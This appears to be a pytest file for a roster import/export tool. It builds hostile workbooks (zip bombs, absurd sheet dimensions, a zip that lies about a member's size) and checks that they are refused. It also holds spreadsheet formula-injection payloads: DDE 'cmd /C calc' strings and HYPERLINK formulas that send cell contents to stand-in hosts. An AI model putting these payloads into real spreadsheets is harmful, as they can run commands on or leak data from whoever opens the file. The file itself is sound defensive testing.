"""Issue 12, the file half: hostile workbooks measured before calamine reads them, Excel error cells,
encodings detected, formula injection neutralised in every file we write, and every file write checked
and cleaned up (a full disk is /dev/full behind a symlink). Every hostile file is built by the test."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from sqlalchemy import func, select

from core.access import SYSTEM
from core.fields import formula_like, id_check_char, safe_cell, unquote_cell
from core.i18n import UserError
from db.models import AuditLog, Placement, Trainee
from db.services.exchange import import_roster, read_table, write_report
from db.services.exchange.export import export_roster
from tests.conftest import REPO, SAMPLES

HEADER = ["姓名", "身份证号", "手机号", "期望月薪"]


def make_id(n: int) -> str:
    first17 = f"6321261990031{n:04d}"
    return first17 + id_check_char(first17)


def people(n: int, start: int = 0) -> list[list[object]]:
    names = ["张三", "李秀英", "马阿依古丽", "才让卓玛", "王芳", "陈美玲", "林志明"]
    return [[names[i % len(names)], make_id(start + i), f"139{start + i:08d}", 4500] for i in range(n)]


def write_csv(path: Path, rows: list[list[object]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def raw_xlsx(path: Path, sheet_xml: bytes | None = None, *, rows_xml=None, dimension: str = "A1:B2",  # type: ignore[no-untyped-def]
             shared: list[str] = ()) -> Path:
    """A minimal workbook written part by part, as an attacker would (no library tidies it up)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
                    'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        zf.writestr("_rels/.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rel[:-13]}'
                                   f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
                                   'Target="xl/workbook.xml"/></Relationships>')
        zf.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} xmlns:r="{rel}">'
                                       '<sheets><sheet name="名册" sheetId="1" r:id="rId1"/></sheets></workbook>')
        zf.writestr("xl/_rels/workbook.xml.rels",
                    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{rel[:-13]}package/2006/'
                    f'relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
                    'Target="worksheets/sheet1.xml"/></Relationships>')
        head = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}><dimension ref="{dimension}"/>'
                '<sheetData>').encode()
        tail = b"</sheetData></worksheet>"
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            if sheet_xml is not None:
                fh.write(sheet_xml)
            for chunk in rows_xml or ():
                fh.write(chunk)
            fh.write(tail)
    return path


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row() -> str:
    return f'<row r="1">{cell("A1", "姓名")}{cell("B1", "身份证号")}</row>'


def run_cli(*args: str, measure: bool = False, password: str | None = None,
            new_password: str | None = None) -> subprocess.CompletedProcess[str]:
    """main.py in a child process; with ``measure`` the child prints its peak memory (KiB) last."""
    # VmHWM (not ru_maxrss, which keeps the high-water mark of the forked pytest process across exec)
    code = ("import sys; sys.path.insert(0, sys.argv[1]); import main; rc = main.main(sys.argv[2:]); "
            "hwm = [ln.split()[1] for ln in open('/proc/self/status') if ln.startswith('VmHWM')][0]; "
            "print('MAXRSS', hwm, file=sys.stderr); sys.exit(rc)"
            if measure else "import sys; sys.path.insert(0, sys.argv[1]); import main; sys.exit(main.main(sys.argv[2:]))")
    return subprocess.run([sys.executable, "-c", code, str(REPO), *args], capture_output=True, text=True,
                          cwd=REPO, timeout=600, stdin=subprocess.DEVNULL,
                          env={**os.environ, "LABORBRIDGE_LANG": "zh", "LABORBRIDGE_PASSWORD": password or "",
                               "LABORBRIDGE_NEW_PASSWORD": new_password or ""})


def one_sentence(result: subprocess.CompletedProcess[str]) -> str:
    lines = [line for line in result.stderr.strip().splitlines() if not line.startswith("MAXRSS")]
    assert "Traceback" not in result.stderr and "panicked" not in result.stderr, result.stderr
    assert len(lines) == 1, result.stderr
    return lines[0]


def trainees(database) -> list[tuple]:  # type: ignore[no-untyped-def]
    with database.session() as s:
        return [tuple(r) for r in s.execute(select(Trainee.id_number, Trainee.name, Trainee.phone, Trainee.version)
                                            .order_by(Trainee.id_number))]


@pytest.fixture
def seeded(database, tmp_path):  # type: ignore[no-untyped-def]
    """A registry of seven people, and a snapshot of it."""
    import_roster(database, "trainees", write_csv(tmp_path / "seed.csv", [HEADER, *people(7)]), SYSTEM)
    return trainees(database)


# --- item 6: hostile workbooks measured before calamine ---------------------------------------------

def test_one_cell_at_xfd1048576_is_refused_through_the_cli(tmp_path, db_url, database, seeded) -> None:  # type: ignore[no-untyped-def]
    """The 1.5 KB file that made calamine allocate 549 GB and abort (exit 134)."""
    path = raw_xlsx(tmp_path / "bomb.xlsx", (header_row() + '<row r="1048576">' + cell("XFD1048576", "x")
                                             + "</row>").encode(), dimension="A1:XFD1048576")
    assert path.stat().st_size < 2048
    result = run_cli("--db", db_url, "import", "trainees", str(path))
    assert result.returncode == 2, result.stderr
    assert "1,048,576 行" in one_sentence(result) and "bomb.xlsx" in result.stderr
    assert trainees(database) == seeded


@pytest.mark.parametrize("sheet, dimension, reason", [
    (header_row() + '<row r="2">' + cell("XFD2", "x") + "</row>", "A1:XFD2", "16,384 列"),
    (header_row(), "A1:XFD1048576", "1,048,576 行"),  # only the declared dimension is absurd
    (header_row() + '<row r="300000">' + cell("GR300000", "x") + "</row>", "A1:B2", "个单元格"),
    # cells without coordinates: calamine lays them out one after another
    (header_row() + "<row>" + "<c><v>1</v></c>" * 5000 + "</row>", "A1:B2", "列"),
], ids=["columns", "declared", "area", "unreferenced"])
def test_sheets_too_large_to_be_a_roster_are_refused(database, seeded, tmp_path, sheet, dimension, reason) -> None:  # type: ignore[no-untyped-def]
    path = raw_xlsx(tmp_path / "wide.xlsx", sheet.encode(), dimension=dimension)
    with pytest.raises(UserError) as info:
        import_roster(database, "trainees", path, SYSTEM)
    assert info.value.code == 2 and reason in str(info.value) and "不像一份名册" in str(info.value)
    assert trainees(database) == seeded


def test_zip_bomb_is_refused_before_it_is_unpacked(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = raw_xlsx(tmp_path / "z.xlsx", (header_row() + "<!--" + " " * (40 << 20) + "-->").encode())
    assert path.stat().st_size < 200_000
    with pytest.raises(UserError) as info:
        import_roster(database, "trainees", path, SYSTEM)
    assert info.value.code == 2 and "压缩炸弹" in str(info.value)
    assert trainees(database) == seeded


def test_million_row_workbook_refused_before_it_is_materialised(tmp_path, db_url, database, seeded) -> None:  # type: ignore[no-untyped-def]
    """It reached 612 MB before the 300,000-row cap applied; now it is measured from the zip first."""
    def rows():  # type: ignore[no-untyped-def]
        yield header_row().encode()
        for start in range(2, 1_000_002, 10_000):
            yield "".join(f'<row r="{n}">{cell(f"A{n}", "张三")}{cell(f"B{n}", make_id(n % 10_000))}</row>'
                          for n in range(start, start + 10_000)).encode()

    # The declared dimension lies (A1:B2): the rows are counted while the sheet streams past.
    path = raw_xlsx(tmp_path / "million.xlsx", rows_xml=rows(), dimension="A1:B2")
    result = run_cli("--db", db_url, "import", "trainees", str(path), measure=True)
    assert result.returncode == 2, result.stderr
    assert "行（上限 310,000 行）" in one_sentence(result)
    peak_mib = int(result.stderr.split("MAXRSS")[1].split()[0]) / 1024
    assert peak_mib < 400, f"peak memory {peak_mib:.0f} MiB"
    assert trainees(database) == seeded


def test_a_real_roster_passes_the_measurement(database) -> None:  # type: ignore[no-untyped-def]
    rows = read_table(SAMPLES / "trainees_school_export.xlsx")
    assert len(rows) > 10 and any("身份证号" in str(c) for _n, cells in rows[:10] for c in cells)


# --- items 6 and 10: Excel error cells --------------------------------------------------------------

def test_excel_error_cells_are_errors_not_empty_values(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """#DIV/0! read as an empty cell kept the old value silently; now the row is rejected and says why."""
    path = tmp_path / "errors.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    ws.write_row(0, 0, HEADER)
    for r, (name, number, phone, _wage) in enumerate(people(3), start=1):
        ws.write_string(r, 0, name)
        ws.write_string(r, 1, number)
        ws.write_string(r, 2, phone)
    ws.write_formula(1, 3, "=1/0", None, "#DIV/0!")
    ws.write_formula(2, 2, "=NA()", None, "#N/A")
    ws.write_number(3, 3, 5200)
    wb.close()
    result = import_roster(database, "trainees", path, SYSTEM)
    assert result.rejected_rows == [2, 3]
    reasons = {i.row: (i.column, i.value, i.reason) for i in result.errors}
    assert reasons[2][0] == "期望月薪" and reasons[2][1] == "#DIV/0!" and "Excel 错误值 #DIV/0!" in reasons[2][2]
    assert reasons[3][0] == "手机号" and "#N/A" in reasons[3][2]
    assert result.updated == 1  # the third row is fine
    after = {t[0]: t for t in trainees(database)}
    for before in seeded[:2]:
        assert after[before[0]] == before


def test_excel_error_literals_in_csv_are_errors(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rows = people(2)
    rows[0][3] = "#VALUE!"
    result = import_roster(database, "trainees", write_csv(tmp_path / "e.csv", [HEADER, *rows]), SYSTEM)
    assert result.rejected_rows == [2] and "#VALUE!" in result.errors[0].reason
    assert trainees(database) == seeded


# --- item 10: encodings -----------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["big5", "shift_jis", "euc_kr"])
def test_non_chinese_mainland_encodings_are_refused(database, seeded, tmp_path, encoding) -> None:  # type: ignore[no-untyped-def]
    """Big5 / Shift-JIS bytes decode as GB18030 too, into nonsense that overwrote the names."""
    names = {"big5": ["陳美玲", "林志明", "黃淑芬"], "shift_jis": ["山田花子", "佐藤太郎", "鈴木一郎"],
             "euc_kr": ["김민준", "이서연", "박지훈"]}[encoding]
    rows = [[name, number, phone, wage] for name, (_n, number, phone, wage) in zip(names, people(3))]
    path = write_csv(tmp_path / f"{encoding}.csv", [["name", "id_number", "phone", "expected_wage"], *rows], encoding)
    with pytest.raises(UserError) as info:
        import_roster(database, "trainees", path, SYSTEM)
    message = str(info.value)
    assert info.value.code == 2 and "CSV UTF-8" in message and "未导入" in message
    assert trainees(database) == seeded


def test_refused_encoding_through_the_cli(tmp_path, db_url, database, seeded) -> None:  # type: ignore[no-untyped-def]
    rows = [[name, number, phone, wage] for name, (_n, number, phone, wage) in zip(["陳美玲", "林志明"], people(2))]
    path = write_csv(tmp_path / "big5.csv", [["name", "id_number", "phone", "expected_wage"], *rows], "big5")
    result = run_cli("--db", db_url, "import", "trainees", str(path))
    assert result.returncode == 2 and "UTF-8" in one_sentence(result)
    assert trainees(database) == seeded


def test_gbk_and_gb18030_still_import(database, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rows = [[name, number, phone, wage] for name, (_n, number, phone, wage)
            in zip(["阿依古丽·买买提", "王芳", "才让卓玛"], people(3))]
    for encoding in ("gbk", "gb18030"):
        result = import_roster(database, "trainees", write_csv(tmp_path / f"{encoding}.csv", [HEADER, *rows],
                                                               encoding), SYSTEM)
        assert not result.errors
    assert [t[1] for t in trainees(database)] == ["阿依古丽·买买提", "王芳", "才让卓玛"]
    assert import_roster(database, "trainees", SAMPLES / "trainees_gbk.csv", SYSTEM, dry_run=True).inserted > 0


# --- item 8: formula injection ----------------------------------------------------------------------

NASTY = ["=HYPERLINK(\"http://e.vil/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://evil.example\")", "＠SUM(A1)"]


def test_safe_cell_rule() -> None:
    for text in NASTY:
        assert formula_like(text) and safe_cell(text) == "'" + text and unquote_cell(safe_cell(text)) == text
    for text in ("张三", "632126199003151241", "13912345678", "+8613912345678", "-5", "4500", "-", "2026-03-05"):
        assert safe_cell(text) == text
    assert safe_cell(4500) == 4500 and safe_cell(None) is None


def _no_formulas(path: Path) -> list[str]:
    """Every text of a workbook read back; fails on any formula cell."""
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def _nasty_registry(database, tmp_path):  # type: ignore[no-untyped-def]
    head = ["姓名", "身份证号", "乡镇", "村", "培训学校", "备注"]
    rows = [["张三", make_id(i), text, text, "=HYPERLINK(\"http://evil.example\")" if i == 0 else "互助县职校", text]
            for i, text in enumerate(NASTY)]
    result = import_roster(database, "trainees", write_csv(tmp_path / "nasty.csv", [head, *rows]), SYSTEM)
    assert not result.errors, result.issues
    return result


def test_csv_and_xlsx_exports_neutralise_formulas_and_round_trip(database, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _nasty_registry(database, tmp_path)
    with database.session() as s:
        stored = {t.notes for t in s.scalars(select(Trainee))}
    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    export_roster(database, "trainees", out_csv, SYSTEM)
    export_roster(database, "trainees", out_xlsx, SYSTEM)
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert not [f for f in fields if formula_like(f)], "a csv field starts with a bare formula character"
    assert sum(f.startswith("'") for f in fields) >= len(NASTY) * 3
    texts = _no_formulas(out_xlsx)
    assert stored <= set(texts)  # the text itself is kept, as a text cell with Excel's quote prefix
    wb = openpyxl.load_workbook(out_xlsx)
    quoted = [c for row in wb.active.iter_rows() for c in row if formula_like(c.value)]
    assert quoted and all(c.quotePrefix for c in quoted)
    # Our own csv comes back exactly (the apostrophe is taken off again).
    from db.engine import open_database
    fresh = open_database(f"sqlite:///{tmp_path / 'fresh.sqlite3'}")
    try:
        assert not import_roster(fresh, "trainees", out_csv, SYSTEM).errors
        with fresh.session() as s:
            assert {t.notes for t in s.scalars(select(Trainee))} == stored
    finally:
        fresh.dispose()


def test_import_report_neutralises_file_name_and_unknown_headers(database, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "=HYPERLINK(1)+cmd.csv"
    write_csv(path, [["姓名", "身份证号", "=cmd|' /C calc'!A0", "@SUM(A1)"], ["张三", "123", "x", "y"]])
    result = import_roster(database, "trainees", path, SYSTEM)
    report = write_report(result, tmp_path / "report.xlsx")
    texts = _no_formulas(report)
    assert "=HYPERLINK(1)+cmd.csv" in texts and any("=cmd|' /C calc'!A0" in t for t in texts)


def test_statistics_workbook_neutralises_names(database, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from db.services import stats

    _nasty_registry(database, tmp_path)
    out = stats.export_xlsx(database, tmp_path / "stats.xlsx", actor=SYSTEM)
    texts = _no_formulas(out)
    assert NASTY[0] in texts and "=HYPERLINK(\"http://evil.example\")" in texts


def confirm_into_batch(database, n: int = 20, batch_id: int = 1) -> str:  # type: ignore[no-untyped-def]
    """``n`` trainees confirmed into a demo batch (so it has a list to print); returns the batch name."""
    from sqlalchemy import insert

    from db.models import Batch, Vacancy

    with database.session() as s:
        tids = s.scalars(select(Trainee.id).where(Trainee.deleted_at.is_(None)).order_by(Trainee.id).limit(n)).all()
        vids = s.scalars(select(Vacancy.id).order_by(Vacancy.id).limit(5)).all()
        next_id = (s.scalar(select(func.max(Placement.id))) or 0) + 1
        s.execute(insert(Placement), [{"id": next_id + i, "trainee_id": t, "vacancy_id": vids[i % len(vids)],
                                       "batch_id": batch_id, "status": "confirmed", "version": 1,
                                       "start_date": None, "monthly_wage": 6000, "employment_form": "temporary"}
                                      for i, t in enumerate(tids)])
        return s.get(Batch, batch_id).name


def test_placement_list_xlsx_neutralises_names(demo_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from db.models import Employer, Vacancy
    from db.services.lists import ListSelection, build_list, write_xlsx

    confirm_into_batch(demo_db)
    with demo_db.session() as s:
        for e in s.scalars(select(Employer).where(Employer.id.in_(select(Vacancy.employer_id)))):
            e.name = "=HYPERLINK(\"http://e.vil\",\"点我\")"
        for t in s.scalars(select(Trainee).order_by(Trainee.id).limit(20)):
            t.name = "@SUM(1+1)"
    plist = build_list(demo_db, SYSTEM, ListSelection(batch_id=1, bureau="+cmd|' /C calc'!A0"))
    texts = _no_formulas(write_xlsx(demo_db, SYSTEM, plist, tmp_path / "list.xlsx"))
    assert "@SUM(1+1)" in texts and "=HYPERLINK(\"http://e.vil\",\"点我\")" in texts


# --- item 9: every file write checks its result and cleans up ---------------------------------------

@pytest.fixture
def full_disk(tmp_path):  # type: ignore[no-untyped-def]
    """A folder holding a link to /dev/full: every write to it fails with ENOSPC, as on a full disk."""
    folder = tmp_path / "out"
    folder.mkdir()

    def target(name: str) -> Path:
        link = folder / name
        link.symlink_to("/dev/full")
        return link

    target.folder = folder  # type: ignore[attr-defined]
    return target


def _audits(database, action: str) -> int:  # type: ignore[no-untyped-def]
    with database.session() as s:
        return int(s.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action.like(action))) or 0)


def _only_links_left(folder: Path) -> None:
    leftovers = [p.name for p in folder.iterdir() if not p.is_symlink()]
    assert leftovers == [], f"temp files left behind: {leftovers}"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_to_a_full_disk(database, seeded, full_disk, suffix) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(UserError) as info:
        export_roster(database, "trainees", full_disk("名册" + suffix), SYSTEM)
    assert "磁盘空间已满" in str(info.value) and "未保存" in str(info.value) and info.value.code == 2
    assert _audits(database, "export") == 0
    _only_links_left(full_disk.folder)


def test_report_and_statistics_to_a_full_disk(database, seeded, full_disk, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from db.services import stats

    result = import_roster(database, "trainees", write_csv(tmp_path / "r.csv", [HEADER, ["张三", "1", "", ""]]),
                           SYSTEM)
    with pytest.raises(UserError, match="磁盘空间已满"):
        write_report(result, full_disk("report.xlsx"))
    with pytest.raises(UserError, match="磁盘空间已满"):
        stats.export_xlsx(database, full_disk("stats.xlsx"), actor=SYSTEM)
    assert _audits(database, "stats.export") == 0
    _only_links_left(full_disk.folder)


def test_pdf_and_list_to_a_full_disk_through_the_cli(tmp_path) -> None:
    """A PDF on a full disk was reported as written (0 bytes, exit 0, audited)."""
    url = f"sqlite:///{tmp_path / 'demo.sqlite3'}"
    made = run_cli("--db", url, "demo", "--trainees", "120", "--seed", "3")
    assert made.returncode == 0, made.stderr
    pw = {ln.split()[0]: ln.split()[1] for ln in made.stdout.splitlines()[2:] if len(ln.split()) >= 2}
    changed = run_cli("--db", url, "--user", "admin", "users", "passwd", password=pw["admin"],
                      new_password="Admin2026new")  # demo accounts choose their own password first
    assert changed.returncode == 0, changed.stderr
    pw["admin"] = "Admin2026new"
    from db.engine import open_database

    database = open_database(url)
    try:
        batch = confirm_into_batch(database)
        folder = tmp_path / "out"
        folder.mkdir()
        for option, name in (("--pdf", "list.pdf"), ("--xlsx", "list.xlsx")):
            (folder / name).symlink_to("/dev/full")
            result = run_cli("--db", url, "--user", "admin", "print-list", "--batch", batch, option,
                             str(folder / name), password=pw["admin"])
            assert result.returncode == 2, (result.stdout, result.stderr)
            assert "磁盘空间已满" in one_sentence(result) and "已写入" not in result.stdout
        _only_links_left(folder)
        assert _audits(database, "export%") == 0
        # The same command to a real folder writes a complete PDF, audited once.
        result = run_cli("--db", url, "--user", "admin", "print-list", "--batch", batch, "--pdf",
                         str(tmp_path / "ok.pdf"), password=pw["admin"])
        assert result.returncode == 0, result.stderr
        assert (tmp_path / "ok.pdf").read_bytes()[:5] == b"%PDF-" and _audits(database, "export%") == 1
    finally:
        database.dispose()


def test_pdf_check_catches_a_cut_off_file(tmp_path) -> None:
    from ui.printing.renderer import pdf_complete

    good = tmp_path / "a.pdf"
    good.write_bytes(b"%PDF-1.4\n" + b"x" * 5000 + b"\n%%EOF\n")
    cut = tmp_path / "b.pdf"
    cut.write_bytes(good.read_bytes()[:3000])
    empty = tmp_path / "c.pdf"
    empty.write_bytes(b"")
    assert pdf_complete(good) and not pdf_complete(cut) and not pdf_complete(empty)


def test_failed_write_keeps_the_existing_file_and_leaves_no_temp_file(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A writer that fails half-way (here: the registry refuses the export) leaves the old file as it was."""
    from core.files import write_file

    target = tmp_path / "名册.csv"
    target.write_text("old content", encoding="utf-8")

    def half(tmp: Path) -> None:
        tmp.write_text("half", encoding="utf-8")
        raise OSError(28, "No space left on device")

    with pytest.raises(UserError, match="磁盘空间已满"):
        write_file(target, half)
    with pytest.raises(UserError, match="空的"):
        write_file(target, lambda tmp: None)
    assert target.read_text(encoding="utf-8") == "old content"
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix != ".sqlite3" and "sqlite3" not in p.name) == \
        ["seed.csv", "名册.csv"]


def test_member_longer_than_its_declared_size_is_refused(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A zip whose directory says the sheet is 200 bytes (with the CRC of those 200 bytes) while the
    stream goes on to a cell at XFD1048576: what zipfile measures is not what calamine would read."""
    import struct
    import zlib

    path = raw_xlsx(tmp_path / "liar.xlsx", (header_row() + "<!--" + "x" * 5000 + "-->" + '<row r="1048576">'
                                             + cell("XFD1048576", "x") + "</row>").encode())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        prefix = zf.read("xl/worksheets/sheet1.xml")[:200]
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")  # the central directory entries
    while at >= 0:
        n = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46:at + 46 + n]) == name:
            struct.pack_into("<I", data, at + 16, zlib.crc32(prefix))
            struct.pack_into("<I", data, at + 24, len(prefix))
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as zf:
        assert zf.read("xl/worksheets/sheet1.xml") == prefix  # zipfile itself is satisfied
    with pytest.raises(UserError) as info:
        import_roster(database, "trainees", path, SYSTEM)
    assert info.value.code == 2 and "已损坏" in str(info.value)
    assert trainees(database) == seeded


def ods(path: Path, rows: int, cols: int) -> Path:
    """An OpenDocument sheet whose second row, one filled cell repeated ``cols`` times, repeats ``rows`` times."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               '<office:spreadsheet><table:table table:name="S"><table:table-row>'
               + "".join(f'<table:table-cell office:value-type="string"><text:p>{h}</text:p></table:table-cell>'
                         for h in ("姓名", "身份证号"))
               + f'</table:table-row><table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
               f'table:number-columns-repeated="{cols}" office:value-type="string"><text:p>王芳</text:p>'
               '</table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1048000">'
               '<table:table-cell table:number-columns-repeated="1024"/></table:table-row></table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                    'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path='
                    '"/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                    'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
        zf.writestr("content.xml", content)
    return path


def test_ods_repeats_are_measured(database, seeded, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """calamine expands a filled cell repeated 10,000 times in a row repeated 9,900 times (99 million
    cells, ~3 GB, just under its own limit); empty repeats as LibreOffice writes them are fine."""
    with pytest.raises(UserError) as info:
        import_roster(database, "trainees", ods(tmp_path / "bomb.ods", 9_900, 10_000), SYSTEM)
    assert info.value.code == 2 and "10,000 列" in str(info.value)
    assert (tmp_path / "bomb.ods").stat().st_size < 2048
    rows = read_table(ods(tmp_path / "fine.ods", 3, 2))
    assert [cells[:2] for _n, cells in rows] == [["姓名", "身份证号"]] + [["王芳", "王芳"]] * 3
    assert trainees(database) == seeded
